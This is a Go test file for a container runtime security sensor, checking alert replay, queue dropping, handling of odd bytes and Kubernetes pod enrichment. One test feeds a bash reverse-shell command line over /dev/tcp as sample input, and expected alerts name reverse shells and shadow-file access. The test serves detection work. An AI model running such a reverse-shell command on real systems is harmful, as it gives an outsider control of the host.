package sensor

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"log/slog"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/bulwark-security/bulwark/internal/alerts"
	"github.com/bulwark-security/bulwark/internal/rules"
	"github.com/bulwark-security/bulwark/internal/sensor/enrich"
	"github.com/bulwark-security/bulwark/internal/sensor/intel"
)

func TestReplayPipeline(t *testing.T) {
	set := testIntel(t)
	var sink collect
	var events, out bytes.Buffer
	s, err := New(Config{
		Engine: defaultEngine(t), RuleVersion: "test", Node: "node-1", Cluster: "c",
		Detectors: []Detector{&IntelDetector{Sets: func() *intel.Set { return set }}, &ListenerDetector{}},
		Sinks:     []Sink{&sink, &JSONLines{W: &out}},
		Events:    &events,
	})
	if err != nil {
		t.Fatal(err)
	}
	r := replayFile(t, "testdata/events.jsonl")
	var badLines []int
	r.OnError = func(line int, err error) {
		if !errors.Is(err, ErrBadEvent) {
			t.Errorf("line %d: error does not wrap ErrBadEvent: %v", line, err)
		}
		badLines = append(badLines, line)
	}
	if err := s.Run(context.Background(), r); err != nil {
		t.Fatal(err)
	}
	want := []string{
		RuleIntel + " @ bb01c2b4d5e6",
		"Cloud metadata service contacted @ 3f9a1c2b4d5e",
		"Drift - executable not in image @ bb01c2b4d5e6",
		"Reverse shell @ 3f9a1c2b4d5e",
		"Shadow file accessed @ 3f9a1c2b4d5e",
		"Test alert @ host",
		RuleListener + " @ bb01c2b4d5e6",
	}
	sort.Strings(want)
	if diff := cmp.Diff(want, ruleAt(sink.got)); diff != "" {
		t.Errorf("alerts (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]int{5, 11, 12, 13, 14}, badLines); diff != "" {
		t.Errorf("malformed lines reported (-want +got):\n%s", diff)
	}
	if r.Events != 8 || r.Bad != 5 {
		t.Errorf("replay counted %d events, %d bad", r.Events, r.Bad)
	}
	c := s.Counters()
	if c.EventsIn.Load() != 8 || c.EventsProcessed.Load() != 8 || c.EventsDropped.Load() != 0 || c.AlertsRaised.Load() != 7 {
		t.Errorf("counters: in=%d processed=%d dropped=%d alerts=%d", c.EventsIn.Load(), c.EventsProcessed.Load(), c.EventsDropped.Load(), c.AlertsRaised.Load())
	}
	// Every alert is a valid contract alert with evidence and MITRE ids.
	ids := map[string]bool{}
	for _, a := range sink.got {
		if err := a.Validate(); err != nil {
			t.Errorf("%s: %v", a.Rule, err)
		}
		if ids[a.ID] {
			t.Errorf("duplicate id %s", a.ID)
		}
		ids[a.ID] = true
		if a.Source != alerts.SourceSensor || a.Node != "node-1" || a.Cluster != "c" || a.MitreTactic == "" || a.MitreTechnique == "" {
			t.Errorf("%s: incomplete alert %+v", a.Rule, a)
		}
		var ev EventJSON
		if err := json.Unmarshal(a.Evidence, &ev); err != nil || ev.Type == "" {
			t.Errorf("%s: evidence %s: %v", a.Rule, a.Evidence, err)
		}
		if a.Rule == "Reverse shell" {
			if a.Severity != alerts.SeverityCritical || !strings.Contains(a.Title, "/dev/tcp/203.0.113.5") || a.Time != time.Date(2026, 11, 27, 10, 0, 0, 1, time.UTC) {
				t.Errorf("reverse shell alert: %+v", a)
			}
		}
		if a.Rule == RuleIntel && (!strings.Contains(a.Title, "198.51.100.0/24") || a.Fingerprint == "") {
			t.Errorf("intel alert: %+v", a)
		}
	}
	if n := strings.Count(out.String(), "\n"); n != 7 {
		t.Errorf("JSON-lines output has %d lines, want 7", n)
	}
	if n := strings.Count(events.String(), "\n"); n != 8 {
		t.Errorf("events output has %d lines, want 8", n)
	}
	// The events output replays to the same alerts (round trip of the format).
	s2, _ := New(Config{Engine: defaultEngine(t), Detectors: []Detector{&IntelDetector{Sets: func() *intel.Set { return set }}, &ListenerDetector{}}})
	var sink2 collect
	s2.cfg.Sinks = []Sink{&sink2}
	r2 := &Replay{R: bytes.NewReader(events.Bytes())}
	if err := s2.Run(context.Background(), r2); err != nil || r2.Bad != 0 {
		t.Fatalf("replay of --events output: %v, %d bad lines", err, r2.Bad)
	}
	if diff := cmp.Diff(want, ruleAt(sink2.got)); diff != "" {
		t.Errorf("alerts from the events output (-want +got):\n%s", diff)
	}
}

// A full event queue drops and counts; the producer never blocks.
func TestQueueFullDropsAndCounts(t *testing.T) {
	s, err := New(Config{Engine: defaultEngine(t), QueueSize: 4})
	if err != nil {
		t.Fatal(err)
	}
	ev := rules.Event{Type: rules.EventOpenat, Container: rules.Container{ID: c1}}
	done := make(chan struct{})
	go func() {
		for range 100 {
			s.Push(&ev) // nobody consumes: Run is not running
		}
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("Push blocked on a full queue")
	}
	if in, dr := s.c.EventsIn.Load(), s.c.EventsDropped.Load(); in != 100 || dr != 96 {
		t.Fatalf("in=%d dropped=%d, want 100 and 96", in, dr)
	}
}

// Paths and command lines with odd bytes become valid alert text.
func TestOddBytesInAlerts(t *testing.T) {
	var sink collect
	s, _ := New(Config{Engine: defaultEngine(t), Sinks: []Sink{&sink}, Log: slog.New(slog.NewTextHandler(t.Output(), nil))})
	ev := rules.Event{Type: rules.EventExecve, Time: 1, Container: rules.Container{ID: c1},
		Proc: rules.Process{Name: "bash", ExePath: "/tmp/\xff\x1b[31mevil", ExeUpperLayer: true}}
	ev.Proc.SetArgv([]string{"bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/1 0>&1 \x00\n" + strings.Repeat("A", 1<<20)})
	src := sourceFunc(func(ctx context.Context, fn func(*rules.Event)) error { fn(&ev); return nil })
	if err := s.Run(context.Background(), src); err != nil {
		t.Fatal(err)
	}
	t.Logf("raised=%d invalid=%d dropped=%d processed=%d", s.c.AlertsRaised.Load(), s.c.AlertsInvalid.Load(), s.c.AlertsDropped.Load(), s.c.EventsProcessed.Load())
	if len(sink.got) != 2 {
		t.Fatalf("want reverse shell and drift alerts, got %v", ruleAt(sink.got))
	}
	for _, a := range sink.got {
		if err := a.Validate(); err != nil {
			t.Errorf("%s: %v", a.Rule, err)
		}
	}
	if s.c.AlertsInvalid.Load() != 0 {
		t.Errorf("%d alerts invalid", s.c.AlertsInvalid.Load())
	}
}

type sourceFunc func(ctx context.Context, fn func(*rules.Event)) error

func (f sourceFunc) Read(ctx context.Context, fn func(*rules.Event)) error { return f(ctx, fn) }

func TestEnrichmentFillsAlerts(t *testing.T) {
	k := enrich.NewKube(nil, "", nil)
	k.Observe(testPod(c1))
	en := enrich.New(enrich.Config{Resolvers: []enrich.Resolver{k}})
	var sink collect
	s, _ := New(Config{Engine: defaultEngine(t), Enricher: en, Sinks: []Sink{&sink}})
	if err := s.Run(context.Background(), replayFile(t, "testdata/events.jsonl")); err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, a := range sink.got {
		switch a.ContainerID {
		case c1:
			n++
			if a.Namespace != "shop" || a.Pod != "web-7d9f8-abcde" || a.Workload != "Deployment/web" || a.Container != "app" ||
				a.Image != "registry.example.com/shop/web:1.2" || a.ImageDigest != "sha256:"+strings.Repeat("ab", 32) {
				t.Errorf("%s: not enriched: %+v", a.Rule, a)
			}
		case c2, "host":
			if a.Namespace != "" || a.Pod != "" {
				t.Errorf("%s: enriched from nowhere: %+v", a.Rule, a)
			}
		}
	}
	if n != 3 {
		t.Errorf("want 3 alerts for the pod's container, got %d", n)
	}
}

func testPod(containerID string) *corev1.Pod {
	yes := true
	return &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "web-7d9f8-abcde", Namespace: "shop", UID: "uid-1",
			Labels:          map[string]string{"app": "web", "pod-template-hash": "7d9f8"},
			OwnerReferences: []metav1.OwnerReference{{Kind: "ReplicaSet", Name: "web-7d9f8", Controller: &yes}}},
		Spec: corev1.PodSpec{Containers: []corev1.Container{{Name: "app", Image: "registry.example.com/shop/web:1.2"}}},
		Status: corev1.PodStatus{ContainerStatuses: []corev1.ContainerStatus{{
			Name: "app", ContainerID: "containerd://" + containerID, Image: "registry.example.com/shop/web:1.2",
			ImageID: "registry.example.com/shop/web@sha256:" + strings.Repeat("ab", 32)}}},
	}
}
